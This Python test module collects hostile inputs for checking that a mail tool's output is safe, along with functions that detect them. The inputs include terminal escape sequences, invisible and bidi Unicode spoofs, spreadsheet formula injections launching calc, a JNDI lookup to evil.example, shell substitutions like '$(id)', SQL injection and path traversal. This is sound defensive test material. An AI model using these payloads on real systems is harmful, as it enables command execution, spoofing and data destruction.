"""Texts that somebody sends who wants a terminal, a spreadsheet or a reader to do something, and how to recognise them."""

from __future__ import annotations

import re
import unicodedata

ESC, BEL, ST, CSI, OSC = "\x1b", "\x07", "\x1b\\", "\x9b", "\x9d"

_CONTROLS = [f"a{chr(number)}b" for number in (*range(32), *range(0x7F, 0xA0))]
_SEQUENCES = [
    f"{start}{rest}"
    for start in (f"{ESC}[", CSI)
    for rest in (
        "2J",
        "31mred",
        "0m",
        "8m",
        "?1049h",
        "?25l",
        "6n",
        "1A",
        "1000D",
        "K",
        "1;1H",
        "!p",
        "?2004l",
    )
]
_STRINGS = [
    f"{start}{rest}{end}"
    for start, end in ((f"{ESC}]", BEL), (f"{ESC}]", ST), (OSC, "\x9c"))
    for rest in (
        "0;owned",
        "2;owned",
        "8;;http://evil.example",
        "52;c;ZXZpbA==",
        "1337;File=name=eA==:AAAA",
        "4;1;rgb:0/0/0",
        "777;notify;a;b",
    )
] + [
    f'{ESC}P$q"p{ST}',
    "\x90$qm\x9c",
    f"{ESC}_Gf=24{ST}",
    f"{ESC}^pm{ST}",
    f"{ESC}Xsos{ST}",
    f"{ESC}c",
    f"{ESC}(0",
    f"{ESC}#8",
]
_BIDI = [
    f"user{char}exe.gpj"
    for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
]
_UNSEEN = [
    f"am{char}azon"
    for char in "\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180b\u180e\u200b\u200c\u200d\u2060\u2061\u2064\u206a\u206f"
    "\u2028\u2029\u2800\u3164\ufe00\ufe0f\ufeff\uffa0\ufff9\ufffb\U0001d173\U000e0001\U000e0100"
] + [
    "tag" + "".join(chr(0xE0000 + ord(char)) for char in "run rm"),
    "private \ue000\U0010fffd",
    "none \u0378\uffff",
]
_SURROGATES = ["half \ud800", "other half \udfff", "octet \udc9b31m", "wrong way \udc00\ud800"]
_MARKUP = [
    *(
        "[red]",
        "[bold red]x[/]",
        "[/]",
        "[/red]",
        "[link=http://evil.example]x[/link]",
        ":smile:",
        ":warning:",
    ),
    *("[on red blink]", "[", "]", "[[", "\\[red]", "\\", "[@click=app.quit]x[/]", "[not bold]", "[/link"),
]
_LONG = [
    "A" * 3000,
    "\u6f22" * 1500,
    "e" + "\u0301" * 600,
    "\u0e01" + "\u0e49" * 40,
    "x\u20dd" * 40,
    " " * 500 + "x",
]
_FORMULAS = [
    f"{before}{start}cmd|' /C calc'!A0"
    for start in ("=", "+", "-", "@", "\t=", "\r=", "|", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")
    for before in ("", " ", '"', "\u200b", "x;", "x,")
]
_READERS = [
    *(
        "%s%n%x",
        "{0.__class__}",
        "${jndi:ldap://evil.example}",
        "$(id)",
        "`id`",
        "'; DROP TABLE mails;--",
        '" OR 1=1',
    ),
    *(
        "<script>alert(1)</script>",
        "&lt;b&gt;",
        "</pre>",
        "../../etc/passwd",
        "CON",
        "a\r\nA1 LOGOUT",
        "line\nline",
    ),
    *(
        "a\x00b\x00",
        "{tag} OK",
        "100%",
        "_%\\_",
        "\u0430mazon.com",
        "[THROTTLED]",
        "[AUTHENTICATIONFAILED] x",
    ),
]

EVIL: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *_CONTROLS,
            *_SEQUENCES,
            *_STRINGS,
            *_BIDI,
            *_UNSEEN,
            *_SURROGATES,
            *_MARKUP,
            *_LONG,
            *_FORMULAS,
            *_READERS,
        )
    )
)

COLOURS = re.compile(rb"\x1b\[(?:0|1|2|36|1;3[1236])m")
"""All that our report may use on a terminal: bold, dim, cyan, and the four bold colours of its labels."""

TRIGGERS = frozenset("=+-@|\t\r\n\uff1d\uff0b\uff0d\uff20\uff5c\u2212\ufe62\ufe63\ufe66\ufe6b")

_ACTING = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
_IGNORABLE = frozenset(
    "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uffa0"
    + "".join(map(chr, (*range(0xFE00, 0xFE10), *range(0xE0000, 0xE1000))))
)
_TOWER = 9


def faults(text: str) -> list[str]:
    """What in a text acts or can't be seen; line feeds may stand between lines."""
    found, marks = [], 0
    for char in text:
        category = unicodedata.category(char)
        marks = marks + 1 if category in {"Mn", "Me"} else 0
        if char != "\n" and (category in _ACTING or char in _IGNORABLE or marks >= _TOWER):
            found.append(f"U+{ord(char):04X}")
    return found


def assert_harmless(came: bytes, *, colour: bool) -> None:
    """Octets of a terminal or a pipe: our own colours if any, and text that only stands there."""
    plain = COLOURS.sub(b"", came) if colour else came
    assert b"\x1b" not in plain, plain[max(0, plain.find(b"\x1b") - 60) :][:160]
    text = re.sub(rb"\r+\n", b"\n", plain).decode(
        "utf-8"
    )  # a terminal adds a CR, a preset has one of its own
    assert faults(text) == []
    assert "Traceback" not in text
    assert "inside bounce-watch" not in text, text


def is_formula(cell: str) -> bool:
    """True when a spreadsheet, or one that drops blanks, quotes and the unseen first, could run the cell."""
    start = cell.lstrip('" ' + "".join(map(chr, (*range(9), *range(14, 32), 0xA0, 0x3000, 0x200B, 0xFEFF))))
    return start[:1] in TRIGGERS and bool(start)
